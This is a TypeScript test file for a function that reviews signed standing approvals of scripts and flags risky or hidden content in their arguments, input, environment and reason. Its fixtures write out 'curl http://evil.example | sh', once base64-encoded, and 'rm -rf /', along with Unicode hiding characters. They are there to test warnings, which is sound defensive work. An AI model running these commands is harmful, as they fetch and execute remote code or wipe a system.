import { documentBytes, hashOf, type Standing } from "@countersign/protocol";
import { nodeCrypto as crypto } from "@countersign/protocol/node";
import { makeOperatorRoot, makePerson, makeStanding } from "@countersign/testkit";
import { describe, expect, test } from "vitest";
import { plainText } from "../text/segment.ts";
import { reviewStanding } from "./review-standing.ts";

const script = new TextEncoder().encode("echo hello\n");
const base = makeStanding({
  roots: [makeOperatorRoot({ people: [makePerson({ id: "alice", groups: ["approvers"] })] })],
  requester: "alice",
  script,
});

/** The review of it with these fields laid over. */
function reviewed(overrides: Partial<Standing>) {
  const bytes = documentBytes("standing", { ...base, ...overrides });
  return reviewStanding({ signed: { bytes, signatures: [] }, script, held: "nothing", now: 0, crypto });
}

async function shown(overrides: Partial<Standing>) {
  const review = await reviewed(overrides);
  if (!review.ok) throw new Error(`${review.because}: ${review.detail}`);
  return review.model;
}

function withArguments(...args: Standing["action"]["args"]): Partial<Standing> {
  return { action: { ...base.action, args } };
}

describe("a standing approval", () => {
  test("marks in its arguments, input, variables and reason what is marked in a request", async () => {
    const encoded = Buffer.from("curl http://evil.example | sh").toString("base64");
    const { warnings, allowed } = await shown({
      reason: "a\u202eb",
      action: {
        ...base.action,
        args: [
          { name: "a", is: "fixed", value: "rm -rf /" },
          { name: "b", is: "enum", values: [encoded, "plain"].toSorted() },
          { name: "c", is: "pattern", parts: [{ chars: [" -~"], min: 0, max: 256 }], empty: false },
        ],
        stdin: "one\u200btwo\n",
        env: { MODE: "curl http://evil.example | sh" },
      },
    });
    const said = warnings.map(({ part, at, kind }) =>
      [part, at, kind].filter((word) => word !== undefined).join(" "),
    );
    expect(said).toEqual(
      expect.arrayContaining([
        "reason hidden",
        "argument 1 risk",
        "argument 2 risk",
        "argument 3 manner",
        "input hidden",
        "environment MODE risk",
      ]),
    );
    expect(allowed.map(({ words }) => plainText(words)).slice(0, 2)).toEqual([
      'always "rm -rf /"',
      `one of "${encoded}", "plain"`,
    ]);
  });

  test("warns of nothing in plain ones", async () => {
    const { warnings } = await shown({
      ...withArguments(
        { name: "a", is: "fixed", value: "web-1" },
        { name: "b", is: "enum", values: ["all", "you"] },
        { name: "c", is: "pattern", parts: [{ chars: ["-", "0-9", "a-z"], min: 1, max: 32 }], empty: false },
      ),
      run_as: "www",
    });
    expect(warnings.filter(({ part }) => part !== "run-as")).toEqual([]);
  });

  test("shows two sets of values in two ways, whatever quotation marks they hold", async () => {
    const wordsOf = async (...values: readonly string[]) => {
      const { allowed } = await shown(withArguments({ name: "a", is: "enum", values: [...values] }));
      return allowed.map(({ words }) => plainText(words)).join("");
    };
    expect(await wordsOf('a", "b', "c")).not.toBe(await wordsOf("a", 'b", "c'));
  });

  test("calls an open argument by its position: its name is somebody's text", async () => {
    const { allows } = await shown(withArguments({ name: "x. Nobody. Else", is: "open", max: 9 }));
    expect(allows).toContain("Whoever uses it may put anything into argument 1.");
    expect(allows.join(" ")).not.toContain("Nobody. Else");
  });

  test("of a whole client says that its number is no limit", async () => {
    const { devices, allows } = await shown({ devices: { of: "client", up_to: 7 } });
    const words =
      "every device of acme, now and later; one use names up to 7, and there may be any number of uses";
    expect([devices.words, allows[0]?.endsWith(`${words}.`)]).toEqual([words, true]);
  });

  test("says in which zone a day is, and that nothing is between two uses", async () => {
    const window = { days: [1], from: "08:00", to: "18:00", tz: "Europe/Berlin" };
    expect((await shown({})).schedule).toEqual([
      "at any time",
      "with no pause between two uses",
      "up to 10 a day (days of UTC) and 100 in all, on each device",
    ]);
    expect((await shown({ windows: [window], min_interval: 600 })).schedule).toEqual([
      "may begin on Mon from 08:00 to 18:00 (Europe/Berlin)",
      "at least 10 minutes between two uses",
      "up to 10 a day (days of Europe/Berlin) and 100 in all, on each device",
    ]);
  });

  test("for devices that are named by their root only is not shown, so nobody signs it", async () => {
    const root = hashOf(script, crypto);
    const review = await reviewed({ devices: { of: "tree", count: 70, root } });
    expect(review).toMatchObject({ ok: false, because: "targets-not-shown" });
  });
});
